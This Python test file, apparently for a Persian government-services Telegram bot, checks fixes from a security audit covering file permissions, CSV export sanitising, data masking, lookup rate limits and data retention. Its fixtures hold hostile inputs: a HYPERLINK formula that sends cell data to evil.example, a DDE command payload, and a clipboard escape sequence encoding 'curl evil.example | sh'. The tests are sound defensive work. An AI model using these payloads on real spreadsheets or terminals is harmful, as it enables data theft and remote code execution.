"""The security audit ("Personal data, delivery guarantees and hostile staff-side input"), one section per
finding: each test reproduces the attack or the fault as it was found, and checks the fix.

Staff commands run in-process through `bot.cli.main` (the same code as `python -m bot`, without the cost of
a process per call); what a person would see is read from stdout and stderr.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import os
import pwd
import re
import shutil
import sqlite3
import stat
import threading
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from bot import cli
from bot import texts as T
from bot.dialogue import Dialogue, Turn, citizen
from bot.dialogue import staff as staff_dialogue
from bot.dialogue.staff import unanswered_reply
from bot.knowledge import KnowledgeError, load_knowledge
from bot.knowledge.loading import KNOWLEDGE_FILE_TOO_BIG
from bot.payload import Action, pack
from bot.persian import jalali_date, to_persian_digits
from bot.reply import B_CLOSE, B_OPEN, render_plain
from bot.settings import Settings
from bot.staff import DUPLICATE_MARK
from storage import RetentionRefused
from storage.masking import mask_personal_data
from storage.sqlite import SqliteStore
from storage.sqlite.lookups import SqliteLookups
from storage.tracking import is_well_formed, new_code
from tests.support.dialogue import CITIZEN, dialogue_on, say
from tests.support.dialogue import RecordingOutbox as Outbox
from tests.support.dialogue import shipped_engine as engine
from tests.support.dialogue import tap as tap_button
from tests.support.identity import national_code

ROOT = Path(__file__).resolve().parent.parent
KNOWLEDGE = ROOT / "knowledge"
KARA = "13011031101"
KARA_TITLE = "ارائه معرفی‌نامه دریافت تسهیلات طرح کارا"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def database_files(folder: Path, mode_to: int | None = None) -> dict[str, int]:
    """The modes of the database file and its -wal / -shm; with `mode_to`, set to that first."""
    files = sorted(folder.glob("bot.db*"))
    if mode_to is not None:
        for f in files:
            f.chmod(mode_to)
    return {f.name: mode(f) for f in files}


@pytest.fixture
def loose_umask() -> Iterator[None]:
    """The umask most machines start with (0o022): new files readable by every local user."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def run_cli(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], database: Path,
            *args: str) -> tuple[int, str, str]:
    """`python -m bot ARGS` in this process, on `database`; returns (exit code, stdout, stderr). The umask
    the command sets is put back afterwards."""
    for name in list(os.environ):
        if name.startswith("BOT_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("BOT_DATABASE", str(database))
    monkeypatch.chdir(database.parent)  # no .env of the developer's
    capsys.readouterr()
    old = os.umask(0o022)
    os.umask(old)
    try:
        code = cli.main(list(args))
    finally:
        os.umask(old)
    out, err = capsys.readouterr()
    return code, out, err


# --------------------------------------------------------------------------------------------------
# 1. Personal data readable by any local user
# --------------------------------------------------------------------------------------------------


async def test_the_database_its_folder_and_its_wal_files_are_private(tmp_path: Path, loose_umask: None) -> None:
    path = tmp_path / "data" / "nested" / "bot.db"
    db = await SqliteStore.open(path)
    try:
        await db.drafts.save("telegram", 1, KARA, 0, {"national_code": "4271302481"})
        files = [path, path.with_name("bot.db-wal"), path.with_name("bot.db-shm")]
        assert all(f.exists() for f in files)
        assert {str(f.name): mode(f) for f in files} == {f.name: 0o600 for f in files}
        assert mode(tmp_path / "data") == mode(tmp_path / "data" / "nested") == 0o700
    finally:
        await db.close()


async def test_a_database_left_readable_by_an_older_version_is_made_private_at_open(
    tmp_path: Path, loose_umask: None
) -> None:
    path = tmp_path / "bot.db"
    async with await SqliteStore.open(path):
        pass
    assert set(database_files(tmp_path, 0o644).values()) == {0o644}
    async with await SqliteStore.open(path) as db:
        await db.log.add("telegram", 1, 1, "in", "سلام")
        found = database_files(tmp_path)
        assert len(found) == 3 and set(found.values()) == {0o600}


def test_an_export_is_private_even_over_an_older_readable_file(
    tmp_path: Path, loose_umask: None, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    database = tmp_path / "bot.db"

    async def create() -> None:
        async with await SqliteStore.open(database) as db:
            await db.requests.create(KARA, "telegram", 1, 1, "4271302481", "09357246813", {"full_name": "مریم احمدی"})

    asyncio.run(create())
    new = tmp_path / "exports" / "requests.csv"
    old = tmp_path / "old.csv"
    old.write_text("x", encoding="utf-8")
    old.chmod(0o644)
    for target in (new, old):
        code, _, err = run_cli(monkeypatch, capsys, database, "export", "requests", "--out", str(target),
                               "--with-personal-data")
        assert code == 0, err
        assert mode(target) == 0o600
    assert mode(tmp_path / "exports") == 0o700


@pytest.mark.parametrize("command", [["stats"], ["requests", "list"], ["logs"]])
def test_every_command_on_the_database_runs_with_a_private_umask(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    database = tmp_path / "bot.db"

    async def create() -> None:
        async with await SqliteStore.open(database):
            pass

    asyncio.run(create())
    seen: list[int] = []
    real_main = cli.cmd_staff

    async def spy(args, settings):  # the umask while the command works
        current = os.umask(0)
        os.umask(current)
        seen.append(current)
        return await real_main(args, settings)

    monkeypatch.setattr(cli, "cmd_staff", spy)
    code, _, err = run_cli(monkeypatch, capsys, database, *command)
    assert code == 0, err
    assert seen == [0o077]


# --------------------------------------------------------------------------------------------------
# 2. Spreadsheet formula injection / 6. Terminal control sequences reach staff
# --------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"جزئیات")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "\t=1+1", "\r=1+1"]
ESCAPES = {
    "clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "clear": "\x1b[2J\x1b[H",
    "colour": "\x1b[31mقرمز\x1b[0m",
    "c1-csi": "\x9b2J",
    "bidi-override": "\u202eabc\u202c",
    "bidi-isolate": "\u2066abc\u2069",
    "bell-backspace": "a\x07\x08b",
}
FORBIDDEN = {chr(c) for c in range(0x20) if chr(c) != "\n"} | {chr(c) for c in range(0x7f, 0xa0)} | {
    chr(c) for c in (*range(0x202a, 0x202f), *range(0x2066, 0x206a), 0x200f, 0x061c, 0x200b, 0xfeff)}


def hostile_database(tmp_path: Path) -> tuple[Path, str]:
    """A database whose citizen text is hostile: formulas, escape sequences, bidi overrides; returns it and
    the tracking code of a request whose answers and staff note are hostile too."""
    database = tmp_path / "bot.db"

    async def seed() -> str:
        async with await SqliteStore.open(database) as db:
            for text in (*FORMULAS, *ESCAPES.values(), "می‌خواهم ثبت‌نام کنم"):
                await db.log.add("telegram", 7, 7, "in", text, answered=False, normalized=text)
            answers = {"full_name": FORMULAS[0], "province": ESCAPES["clipboard"] + ESCAPES["bidi-override"],
                       "note": "-2+3"}
            created = await db.requests.create(KARA, "telegram", 7, 7, None, None, answers)
            await db.requests.set_status(created.tracking_code, "under_review", note=ESCAPES["clear"] + "=1+1")
            return created.tracking_code

    return database, asyncio.run(seed())


def test_no_export_cell_starts_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    database, _ = hostile_database(tmp_path)
    cells: list[str] = []
    for what, *extra in (("logs",), ("requests",), ("requests", "--with-personal-data")):
        out = tmp_path / f"{what}{len(extra)}.csv"
        code, _, err = run_cli(monkeypatch, capsys, database, "export", what, "--out", str(out), *extra)
        assert code == 0, err
        with out.open(encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f))
        cells += [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
            or cell.lstrip()[:1] in ("=", "+", "-", "@")]
    assert live == []
    assert "'-2+3" in cells and "'@SUM(1+1)" in cells  # still there, as text
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)


def test_staff_output_carries_no_control_or_bidi_characters(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    database, code = hostile_database(tmp_path)
    outputs = {}
    for args in (["logs"], ["logs", "--unanswered"], ["stats"], ["requests", "list"], ["requests", "show", code]):
        status, out, err = run_cli(monkeypatch, capsys, database, *args)
        assert status == 0, err
        outputs[" ".join(args[:2])] = out + err
    export = tmp_path / "logs.csv"
    assert run_cli(monkeypatch, capsys, database, "export", "logs", "--out", str(export))[0] == 0
    outputs["export"] = export.read_text(encoding="utf-8-sig").replace("\r\n", "\n")
    for name, text in outputs.items():
        assert sorted({f"U+{ord(ch):04X}" for ch in text if ch in FORBIDDEN}) == [], name
    assert "می‌خواهم ثبت‌نام کنم" in outputs["logs"]  # ZWNJ kept: Persian needs it
    assert "قرمز" in outputs["logs"] and "abc" in outputs["logs"]  # the words stay, the sequences go
    assert "قرمز" in outputs["stats"]


async def test_unanswered_questions_reach_the_admin_chat_without_control_or_bidi_characters(tmp_path: Path) -> None:
    async with await SqliteStore.open(tmp_path / "bot.db") as db:
        for text in ESCAPES.values():
            await db.log.add("telegram", 7, 7, "in", text, answered=False, normalized=text)
        reply = await unanswered_reply(db)
    assert sorted({f"U+{ord(ch):04X}" for ch in reply.text if ch in FORBIDDEN - {B_OPEN, B_CLOSE}}) == []


# --------------------------------------------------------------------------------------------------
# A citizen talking to the dialogue (no PTB): for the sections below
# --------------------------------------------------------------------------------------------------

SQUATTER, NEIGHBOUR, ADMIN = 666, 502, 9001
CODE_SHOWN = re.compile(r"کد رهگیری: ([۰-۹]{12})")
LATIN = str.maketrans("۰۱۲۳۴۵۶۷۸۹", "0123456789")


REAL_CODE = national_code("427130248")


@pytest.fixture
async def dialogue(tmp_path: Path, clock) -> AsyncIterator[Dialogue]:
    async with dialogue_on(tmp_path / "bot.db", clock, admin_ids=frozenset({ADMIN})) as d:
        yield d


async def tap(d: Dialogue, data: str, user: int = CITIZEN) -> Outbox:
    out, _ = await tap_button(d, data, user)
    return out


async def register(d: Dialogue, user: int, code: str, name: str = "مریم احمدی", service: str = KARA) -> Outbox:
    """The default form to its summary, then «تأیید و ارسال»; returns what the confirmation showed."""
    await tap(d, pack(Action.REGISTER, service), user)
    for answer in (name, code, "09121234567"):
        await say(d, answer, user)
    summary = await say(d, "تهران", user)
    return await tap(d, summary.data_of(T.FORM_CONFIRM), user)


def tracking_code(out: Outbox) -> str:
    [code] = CODE_SHOWN.findall(out.texts()[0])
    return code.translate(LATIN)


def without_code_and_date(text: str, d_code: str) -> str:
    return text.replace(to_persian_digits(d_code), "<code>")


# --------------------------------------------------------------------------------------------------
# 3. Anyone can claim anyone's national code
# --------------------------------------------------------------------------------------------------


async def test_another_account_with_the_same_national_code_learns_nothing_and_locks_nobody_out(
    dialogue: Dialogue,
) -> None:
    squatter = await register(dialogue, SQUATTER, REAL_CODE)  # registers first, with someone else's code
    squatter_code = tracking_code(squatter)
    real = await register(dialogue, CITIZEN, REAL_CODE)  # the real citizen is not locked out
    neighbour = await register(dialogue, NEIGHBOUR, national_code("001354241"))  # nobody used this code

    real_code, neighbour_code = tracking_code(real), tracking_code(neighbour)
    assert len({squatter_code, real_code, neighbour_code}) == 3
    # The same answer, word for word and button for button, whether the code was used before or not.
    assert without_code_and_date(real.texts()[0], real_code) == without_code_and_date(neighbour.texts()[0], neighbour_code)
    assert [len(r.buttons) for _, r in real.sent] == [len(r.buttons) for _, r in neighbour.sent]

    store = dialogue.store
    assert (await store.requests.get(real_code)).duplicate_of == squatter_code  # flagged for staff
    assert (await store.requests.get(squatter_code)).duplicate_of is None
    assert (await store.requests.get(neighbour_code)).duplicate_of is None
    assert [r.tracking_code for r in await store.requests.list(duplicates_only=True)] == [real_code]

    again = await register(dialogue, CITIZEN, REAL_CODE)  # the same account again while open: its own code
    assert again.texts()[0] == T.REGISTERED_DUPLICATE.format(title=KARA_TITLE, code=to_persian_digits(real_code))
    assert await store.requests.count() == 3


async def test_requests_per_account_per_day_are_capped(dialogue: Dialogue, clock) -> None:
    limit = dialogue.settings.max_requests_per_day
    assert limit == 5
    codes = [national_code(f"00135424{i}") for i in range(limit + 1)]
    for code in codes[:limit]:
        assert CODE_SHOWN.search((await register(dialogue, CITIZEN, code)).texts()[0])
    refused = await register(dialogue, CITIZEN, codes[limit])
    assert refused.texts() == [T.REQUEST_LIMIT.format(limit=to_persian_digits(limit))]
    assert await dialogue.store.requests.count() == limit  # nothing stored
    assert CODE_SHOWN.search((await register(dialogue, NEIGHBOUR, codes[limit])).texts()[0])  # others are not capped
    clock.advance(hours=24, seconds=1)
    summary = await say(dialogue, "تهران", CITIZEN)  # the form was kept: send it the next day
    assert T.FORM_USE_BUTTONS in summary.texts()
    assert CODE_SHOWN.search((await tap(dialogue, summary.data_of(T.FORM_CONFIRM))).texts()[0])


def test_staff_see_possible_duplicates(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    database = tmp_path / "bot.db"

    async def seed() -> tuple[str, str, str]:
        async with await SqliteStore.open(database) as db:
            first = await db.requests.create(KARA, "telegram", SQUATTER, SQUATTER, REAL_CODE, None, {})
            second = await db.requests.create(KARA, "telegram", CITIZEN, CITIZEN, REAL_CODE, None, {})
            other = await db.requests.create(KARA, "telegram", NEIGHBOUR, NEIGHBOUR, national_code("001354241"), None, {})
            return first.tracking_code, second.tracking_code, other.tracking_code

    first, second, other = asyncio.run(seed())
    code, listing, err = run_cli(monkeypatch, capsys, database, "requests", "list")
    assert code == 0, err
    lines = {line.split()[0]: line for line in listing.splitlines()}
    assert DUPLICATE_MARK in lines[second] and DUPLICATE_MARK not in lines[first] + lines[other]
    code, duplicates, err = run_cli(monkeypatch, capsys, database, "requests", "list", "--duplicates")
    assert code == 0, err
    assert [line.split()[0] for line in duplicates.splitlines()] == [second]
    code, shown, err = run_cli(monkeypatch, capsys, database, "requests", "show", second)
    assert code == 0, err
    assert first in shown and DUPLICATE_MARK in shown


# --------------------------------------------------------------------------------------------------
# 7. Masking gaps
# --------------------------------------------------------------------------------------------------

MOBILE, CARD, IBAN_DIGITS = "09121234567", "6037991234567890", "060170000000123456789001"


def digits_of(text: str) -> str:
    return "".join(str(int(ch)) for ch in text if ch.isdecimal())


def grouped(number: str, sizes: tuple[int, ...], sep: str) -> str:
    parts, i = [], 0
    for size in sizes:
        parts.append(number[i : i + size])
        i += size
    if i < len(number):
        parts.append(number[i:])
    return sep.join(parts)


SEPARATORS = [".", ",", "،", "٬", "/", " / ", "\u200e.\u200e"]
WRITTEN = [
    *(grouped(REAL_CODE, (3, 3), sep) for sep in SEPARATORS),
    *(grouped(MOBILE, (4, 3), sep) for sep in SEPARATORS),
    *(grouped(CARD, (4, 4, 4), sep) for sep in SEPARATORS),
    *("IR" + grouped(IBAN_DIGITS, (2, 4, 4, 4, 4, 4), sep) for sep in SEPARATORS),
    grouped(MOBILE, (4, 3), ".").translate(str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")),
]


@pytest.mark.parametrize("written", WRITTEN)
def test_numbers_written_with_dots_commas_or_slashes_are_masked(written: str) -> None:
    masked = mask_personal_data(f"شماره من {written} است")
    number = digits_of(written)
    assert number not in digits_of(masked) and number[:6] not in digits_of(masked), masked


@pytest.mark.parametrize("email", ["ali.rezaei@gmail.com", "m_ahmadi1365@yahoo.co.uk", "reza+bot@example.ir"])
def test_email_addresses_are_masked(email: str) -> None:
    masked = mask_personal_data(f"ایمیلم {email} است")
    local = email.split("@")[0]
    assert local not in masked and "@" in masked


def test_a_service_id_in_a_button_payload_stays_readable_but_a_mobile_there_does_not() -> None:
    for payload in ("[دکمه] s:13011031101", "[دکمه] i:13011031101:cost", "[دکمه] r:13012712105"):
        assert mask_personal_data(payload) == payload
    for forged in ("[دکمه] s:09121234567", "[دکمه] r:989121234567", f"[دکمه] s:{REAL_CODE}"):
        assert digits_of(forged)[-11:] not in digits_of(mask_personal_data(forged)), forged
    assert MOBILE not in digits_of(mask_personal_data(f"[دکمه] i:13011031101:cost {MOBILE}"))
    tracking = "123456789018"  # our own codes stay readable everywhere
    assert is_well_formed(tracking) and mask_personal_data(f"کد {tracking}") == f"کد {tracking}"


TVTO = "tvto-skill-training"
TVTO_ANSWERS = ("زهرا کریمی", REAL_CODE, MOBILE, "۱۳۸۰/۰۶/۳۱", "کارشناسی", "فارس، مرودشت", "بله")
PERSONAL = ("زهرا", "کریمی", "مرودشت")
PERSONAL_NUMBERS = (REAL_CODE, MOBILE, "13800631")


async def fill_tvto(d: Dialogue, user: int = CITIZEN) -> Outbox:
    """The skill-training form (name, national code, mobile, birth date, education, place, certificate)
    to its summary."""
    await tap(d, pack(Action.REGISTER, TVTO), user)
    out = Outbox()
    for answer in TVTO_ANSWERS:
        out = await say(d, answer, user)
    return out


async def log_texts(d: Dialogue) -> list[str]:
    return [e.text or "" for e in await d.store.log.query(limit=1000)]


def leaks(texts: list[str]) -> list[str]:
    return [t for t in texts if any(w in t for w in PERSONAL) or any(n in digits_of(t) for n in PERSONAL_NUMBERS)]


async def test_form_answers_and_their_echoes_are_not_logged(dialogue: Dialogue) -> None:
    summary = await fill_tvto(dialogue)
    assert "زهرا کریمی" in summary.texts()[-1]  # the citizen sees their answers...
    confirmation = await tap(dialogue, summary.data_of(T.FORM_CONFIRM))
    assert CODE_SHOWN.search(confirmation.texts()[0])
    texts = await log_texts(dialogue)
    assert leaks(texts) == []  # ...the log does not keep them
    assert T.LOG_FORM_ANSWER.format(field="full_name") in texts
    assert T.LOG_FORM_ANSWER.format(field="birth_date") in texts
    assert T.LOG_FORM_SUMMARY in texts


async def test_answers_of_a_cancelled_form_are_not_logged_either(dialogue: Dialogue) -> None:
    await tap(dialogue, pack(Action.REGISTER, TVTO))
    side = await say(dialogue, "هزینه‌اش چقدره؟")  # a question in passing is no answer: logged as asked
    assert side.texts()[-1].startswith("پرسش ۱ از ")
    assert "هزینه‌اش چقدره؟" in await log_texts(dialogue)
    for answer in TVTO_ANSWERS[:4]:
        await say(dialogue, answer)
    await dialogue.handle(Turn(CITIZEN, CITIZEN, text="زهرا کریمی", edited=True), Outbox())  # an edited answer
    await say(dialogue, "انصراف")
    assert leaks(await log_texts(dialogue)) == []


def test_an_export_without_personal_data_leaves_out_names_birth_dates_and_user_ids(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    database = tmp_path / "bot.db"

    async def seed() -> None:
        async with await SqliteStore.open(database) as db:
            answers = {"full_name": "زهرا کریمی", "national_code": REAL_CODE, "mobile": MOBILE,
                       "birth_date": "2001-09-22", "education": "کارشناسی", "location": "فارس، مرودشت",
                       "has_certificate": True}
            await db.requests.create(TVTO, "telegram", 4242, 4242, REAL_CODE, MOBILE, answers)

    asyncio.run(seed())
    out = tmp_path / "requests.csv"
    code, _, err = run_cli(monkeypatch, capsys, database, "export", "requests", "--out", str(out))
    assert code == 0, err
    with out.open(encoding="utf-8-sig", newline="") as f:
        header, row = list(csv.reader(f))
    cells = dict(zip(header, row, strict=True))
    text = "\n".join(row)
    assert leaks([text]) == [] and "2001" not in text and "4242" not in text
    assert "کارشناسی" in cells["پاسخ‌ها"] and "has_certificate" in cells["پاسخ‌ها"]  # non-personal choices stay
    personal = tmp_path / "personal.csv"
    assert run_cli(monkeypatch, capsys, database, "export", "requests", "--out", str(personal),
                   "--with-personal-data")[0] == 0
    assert "زهرا کریمی" in personal.read_text(encoding="utf-8-sig") and "4242" in personal.read_text(encoding="utf-8-sig")


async def test_unanswered_questions_in_the_admin_chat_are_masked(tmp_path: Path) -> None:
    async with await SqliteStore.open(tmp_path / "bot.db") as db:
        async with db.write() as conn:  # rows an older version wrote, before the masking was widened
            for text in ("شماره من 0912.123.4567 است", "ایمیلم ali.rezaei@gmail.com است"):
                await conn.execute(
                    "INSERT INTO message_log (created_at, platform, user_id, chat_id, direction, text, answered,"
                    " normalized) VALUES ('2025-03-20T08:00:00.000+00:00', 'telegram', 1, 1, 'in', ?, 0, ?)",
                    (text, text))
        reply = render_plain((await unanswered_reply(db)).text)
    assert MOBILE not in digits_of(reply) and "ali.rezaei" not in reply


# --------------------------------------------------------------------------------------------------
# 9. A successful look-up reset the guess limiter / 11. Clock jumps (the limiter)
# --------------------------------------------------------------------------------------------------

HOUR = 3600


async def guesses_in_an_hour(d: Dialogue, clock, own_code: str, *, quiet_after_limit: bool) -> int:
    """A script that owns one request and guesses other codes for an hour, one try a second, looking its own
    code up before every guess; it waits whenever told to (or, with `quiet_after_limit`, for the quiet window
    that forgets failures). Returns how many guesses were really checked."""
    started, guesses = clock.now, 0
    while (clock.now - started).total_seconds() < HOUR and guesses <= 50:
        own = await citizen.track(d, SQUATTER, own_code)
        assert render_plain(own.text).startswith("📌") or render_plain(own.text).startswith(T.TRACK_WAIT[:20])
        reply = render_plain((await citizen.track(d, SQUATTER, new_code())).text)
        if reply == T.TRACK_NOT_FOUND:
            guesses += 1
            clock.advance(seconds=1)
        else:
            assert reply.startswith(T.TRACK_WAIT.split("{")[0]), reply
            wait = await d.store.lookups.check(d.platform, SQUATTER)
            clock.advance(seconds=d.store.lookups.limits.window + 1 if quiet_after_limit else max(wait, 1))
    return guesses


@pytest.mark.parametrize("quiet_after_limit", [False, True], ids=["as-soon-as-allowed", "after-a-quiet-window"])
async def test_own_successful_lookups_do_not_reset_the_guess_limiter(
    dialogue: Dialogue, clock, quiet_after_limit: bool
) -> None:
    own = await dialogue.store.requests.create(KARA, dialogue.platform, SQUATTER, SQUATTER, None, None, {})
    assert await guesses_in_an_hour(dialogue, clock, own.tracking_code, quiet_after_limit=quiet_after_limit) <= 42


async def test_a_clock_set_back_does_not_lengthen_a_wait(db, clock) -> None:
    for _ in range(5):
        await db.lookups.record_failure("telegram", 1)
    assert await db.lookups.check("telegram", 1) == 30
    clock.advance(hours=-1)  # the server's clock is corrected backwards
    assert 0 < await db.lookups.check("telegram", 1) <= 30
    clock.advance(hours=1, seconds=31)
    assert await db.lookups.check("telegram", 1) == 0


async def test_waits_follow_the_monotonic_clock_within_the_process(db, clock) -> None:
    elapsed = [0.0]
    limiter = SqliteLookups(db, monotonic=lambda: elapsed[0])
    for _ in range(5):
        await limiter.record_failure("telegram", 1)
    assert await limiter.check("telegram", 1) == 30
    clock.advance(days=200)  # the wall clock jumps ahead: the wait is not over, nor the failures forgotten
    elapsed[0] += 10
    assert await limiter.check("telegram", 1) == 20
    clock.advance(hours=-5000)  # ...or far back
    assert await limiter.check("telegram", 1) == 20
    elapsed[0] += 20
    assert await limiter.check("telegram", 1) == 0
    assert await limiter.record_failure("telegram", 1) == 60  # the sixth failure in a row: no quiet window passed


# --------------------------------------------------------------------------------------------------
# 8. Retention / 11. Clock jumps (pruning)
# --------------------------------------------------------------------------------------------------


async def test_closed_requests_lose_their_personal_data_after_the_retention_and_old_state_goes(
    dialogue: Dialogue, clock
) -> None:
    store = dialogue.store
    answers = {"full_name": "زهرا کریمی", "national_code": REAL_CODE, "mobile": MOBILE}
    done = await store.requests.create(KARA, "telegram", CITIZEN, CITIZEN, REAL_CODE, MOBILE, answers)
    await store.requests.set_status(done.tracking_code, "done", note="با زهرا کریمی تماس گرفته شد")
    still_open = await store.requests.create(KARA, "telegram", NEIGHBOUR, NEIGHBOUR, national_code("001354241"),
                                             None, {"full_name": "علی رضایی"})
    await store.chats.set_current_service("telegram", CITIZEN, KARA)
    await store.lookups.record_failure("telegram", SQUATTER)
    clock.advance(days=300)
    recent = await store.requests.create(KARA, "telegram", 77, 77, None, None, {"full_name": "سارا"})
    await store.requests.set_status(recent.tracking_code, "rejected")
    clock.advance(days=66)  # the first request was closed 366 days ago, the recent one 66
    await say(dialogue, "وام کارا", user=NEIGHBOUR)  # the bot is in use: its clock is lived by

    await dialogue.prune()  # the retention pass of the running bot

    old = await store.requests.get(done.tracking_code)
    assert (old.national_code, old.mobile, old.data, old.user_id, old.chat_id) == (None, None, {}, 0, 0)
    assert old.status == "done" and old.anonymized_at is not None and old.service_id == KARA
    assert [e.note for e in old.events] == [None, None]
    assert await store.requests.get_for_user(done.tracking_code, "telegram", CITIZEN) is None
    assert (await store.requests.get(still_open.tracking_code)).data == {"full_name": "علی رضایی"}  # open: kept
    assert (await store.requests.get(recent.tracking_code)).data == {"full_name": "سارا"}  # closed lately: kept
    assert (await store.chats.get("telegram", CITIZEN)).current_service is None  # a year quiet
    assert (await store.chats.get("telegram", NEIGHBOUR)).current_service == KARA  # today
    assert tuple(await store.fetchone("SELECT COUNT(*) FROM lookup_failures")) == (0,)
    assert await store.pragma("secure_delete") == 1


async def seed_live_bot(store, clock, days: int = 100, rows: int = 150) -> None:
    """A bot in use for `days` days: `rows` log rows spread over them, a draft and a chat yesterday."""
    for i in range(rows):
        await store.log.add("telegram", i % 7, i % 7, "in", f"پرسش {i}")
        clock.advance(hours=days * 24 / rows)
    await store.drafts.save("telegram", CITIZEN, KARA, 2, {"full_name": "زهرا کریمی"})
    await store.chats.set_current_service("telegram", CITIZEN, KARA)
    clock.advance(days=1)


async def test_a_clock_jump_ahead_and_a_restart_prune_nothing_live(tmp_path: Path, clock) -> None:
    async with await SqliteStore.open(tmp_path / "bot.db", clock=clock) as store:
        await seed_live_bot(store, clock)
    clock.advance(days=200)  # the server's clock jumps ahead, and the bot restarts
    async with await SqliteStore.open(tmp_path / "bot.db", clock=clock) as store:
        d = Dialogue(Settings(_env_file=None), store, engine())
        await d.prune()
        assert await store.log.count() == 150
        assert await store.drafts.get("telegram", CITIZEN) is not None  # the live draft stays
        assert (await store.chats.get("telegram", CITIZEN)).current_service == KARA

        await say(d, "سلام", user=NEIGHBOUR)  # traffic under the wrong clock: now a mass deletion would be due
        await d.prune()
        assert await store.log.count() == 152  # refused: more than 90% of the log at once
        assert await store.log.prune(180, force=True) == 150  # what `python -m bot prune --force` does


async def test_a_clock_set_back_prunes_nothing(tmp_path: Path, clock) -> None:
    async with await SqliteStore.open(tmp_path / "bot.db", clock=clock) as store:
        await store.log.add("telegram", 1, 1, "in", "قدیمی")
        await store.drafts.save("telegram", 1, KARA, 1, {})
        clock.advance(days=40)
        await store.log.add("telegram", 1, 1, "in", "تازه")
        clock.advance(days=-5)  # set back: the newest row is now 5 days "in the future"
        with pytest.raises(RetentionRefused):
            await store.log.prune(30)
        with pytest.raises(RetentionRefused):
            await store.drafts.prune(30)
        assert await store.log.count() == 2
        clock.advance(days=5)
        assert await store.log.prune(30) == 1


def test_staff_can_prune_after_checking_the_clock(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], clock
) -> None:
    database = tmp_path / "bot.db"

    async def seed() -> None:  # a bot stopped for half a year: its newest row is 190 days old
        clock.now = dt.datetime.now(dt.UTC) - dt.timedelta(days=300)
        async with await SqliteStore.open(database, clock=clock) as store:
            await seed_live_bot(store, clock, days=90)

    asyncio.run(seed())
    code, out, _ = run_cli(monkeypatch, capsys, database, "prune")
    assert code == 0 and "log: 0" in out  # ages are measured from the last row the bot wrote
    code, out, err = run_cli(monkeypatch, capsys, database, "prune", "--force")
    assert code == 0, err
    assert "log: 150" in out and "drafts: 1" in out and "chat_state: 1" in out


# --------------------------------------------------------------------------------------------------
# 12. Hostile knowledge files: nesting, file size, value size
# --------------------------------------------------------------------------------------------------

MINIMAL = "id: hostile\ntitle: خدمت آزمایشی\nprovider: دستگاه آزمایشی\n"


def knowledge_with(tmp_path: Path, files: dict[str, str], lexicon: str | None = None) -> Path:
    root = tmp_path / "knowledge"
    (root / "services").mkdir(parents=True)
    (root / "services" / "ok.yaml").write_text(MINIMAL.replace("hostile", "ok"), encoding="utf-8")
    for name, text in files.items():
        (root / "services" / name).write_text(text, encoding="utf-8")
    if lexicon is not None:
        (root / "lexicon.yaml").write_text(lexicon, encoding="utf-8")
    return root


def validate(root: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    capsys.readouterr()
    code = cli.main(["validate", "--knowledge", str(root)])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out.splitlines()


@pytest.mark.parametrize("nesting", ["flow", "block"])
def test_deeply_nested_yaml_is_a_problem_not_a_crash(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                      nesting: str) -> None:
    deep = "[" * 1000 + "]" * 1000 if nesting == "flow" else "\n" + "".join(" " * i + "- \n" for i in range(1, 1001))
    root = knowledge_with(tmp_path, {"deep.yaml": MINIMAL + f"faq: {deep}\n"}, lexicon=f"stopwords: {'[' * 1000}{']' * 1000}\n")
    code, lines = validate(root, capsys)
    assert code == 1
    deep_file, lexicon = str(root / "services" / "deep.yaml"), str(root / "lexicon.yaml")
    assert any(line.startswith(f"{deep_file}: (file): ") and "تودرتو" in line for line in lines), lines
    assert any(line.startswith(f"{lexicon}: (file): ") and "تودرتو" in line for line in lines), lines
    with pytest.raises(KnowledgeError):  # start-up is refused with the same list, not a RecursionError
        load_knowledge(root)


def test_an_oversized_knowledge_file_or_value_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    padding = "# " + "ا" * 100 + "\n"
    big = MINIMAL.replace("hostile", "big") + padding * (1_100_000 // len(padding.encode()) + 1)
    long_value = MINIMAL.replace("hostile", "long") + f"description: {'ب' * 25_000}\ndocuments:\n  - {'پ' * 20_001}\n"
    root = knowledge_with(tmp_path, {"big.yaml": big, "long.yaml": long_value})
    assert (root / "services" / "big.yaml").stat().st_size > 1_000_000
    code, lines = validate(root, capsys)
    assert code == 1
    big_file, long_file = str(root / "services" / "big.yaml"), str(root / "services" / "long.yaml")
    size_kb = -(-(root / "services" / "big.yaml").stat().st_size // 1000)
    assert [line for line in lines if line.startswith(big_file)] == [
        f"{big_file}: (file): {KNOWLEDGE_FILE_TOO_BIG.format(size=size_kb, limit=1_000)}"]
    assert sorted(line.split(": ")[1] for line in lines if line.startswith(long_file)) == ["description", "documents[0]"]
    assert all("20,000" in line for line in lines if line.startswith(long_file))


# --------------------------------------------------------------------------------------------------
